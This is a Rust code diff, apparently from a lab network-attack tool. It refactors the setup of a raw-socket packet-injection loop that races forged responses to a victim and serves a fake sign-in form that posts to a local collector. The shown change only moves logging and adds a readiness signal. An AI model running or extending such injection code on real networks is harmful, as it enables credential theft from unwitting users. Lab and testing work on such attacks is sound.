@@ -184,7 +184,7 @@ fn collect(listener: std::net::TcpListener, reveal: bool, stop: &AtomicBool, don
 }
 
 /// Watches `interface` and races every target until `stop` is set.
-pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, stop: &AtomicBool) -> anyhow::Result<()> {
+pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, ready: Option<&std::path::Path>, stop: &AtomicBool) -> anyhow::Result<()> {
     let iface = datalink::interfaces().into_iter().find(|i| i.name == interface).with_context(|| format!("no interface {interface}"))?;
     let cfg = datalink::Config { read_timeout: Some(Duration::from_millis(200)), promiscuous: true, ..Default::default() };
     let (mut tx, mut rx) = match datalink::channel(&iface, cfg).context("opening a raw socket (needs CAP_NET_RAW)")? {
@@ -198,18 +198,19 @@ pub fn run(interface: &str, victim: Option<Ipv4Addr>, ad: &str, reveal: bool, st
     let own = own.with_context(|| format!("{interface} has no IPv4 address for the collector"))?;
     let collector = SocketAddrV4::new(own, 80);
     let listener = std::net::TcpListener::bind(collector).with_context(|| format!("binding the collector on {collector}"))?;
+    eprintln!("inject: racing on {interface} (a guest who can see but not block); forged sign-in form posts to {collector}");
+    crate::lab::proc::signal_ready(ready)?;
     let done = AtomicBool::new(false);
     std::thread::scope(|scope| -> anyhow::Result<()> {
         scope.spawn(|| collect(listener, reveal, stop, &done));
-        let r = race(&mut *tx, &mut *rx, interface, collector, victim, ad, stop);
+        let r = race(&mut *tx, &mut *rx, collector, victim, ad, stop);
         done.store(true, Ordering::SeqCst);
         r
     })
 }
 
 /// The racing loop proper.
-fn race(tx: &mut dyn datalink::DataLinkSender, rx: &mut dyn datalink::DataLinkReceiver, interface: &str, collector: SocketAddrV4, victim: Option<Ipv4Addr>, ad: &str, stop: &AtomicBool) -> anyhow::Result<()> {
-    eprintln!("inject: racing on {interface} (a guest who can see but not block); forged sign-in form posts to {collector}");
+fn race(tx: &mut dyn datalink::DataLinkSender, rx: &mut dyn datalink::DataLinkReceiver, collector: SocketAddrV4, victim: Option<Ipv4Addr>, ad: &str, stop: &AtomicBool) -> anyhow::Result<()> {
     let mut raced: HashSet<(SocketAddrV4, u32)> = HashSet::new();
     while !stop.load(Ordering::SeqCst) {
         let frame = match rx.next() {
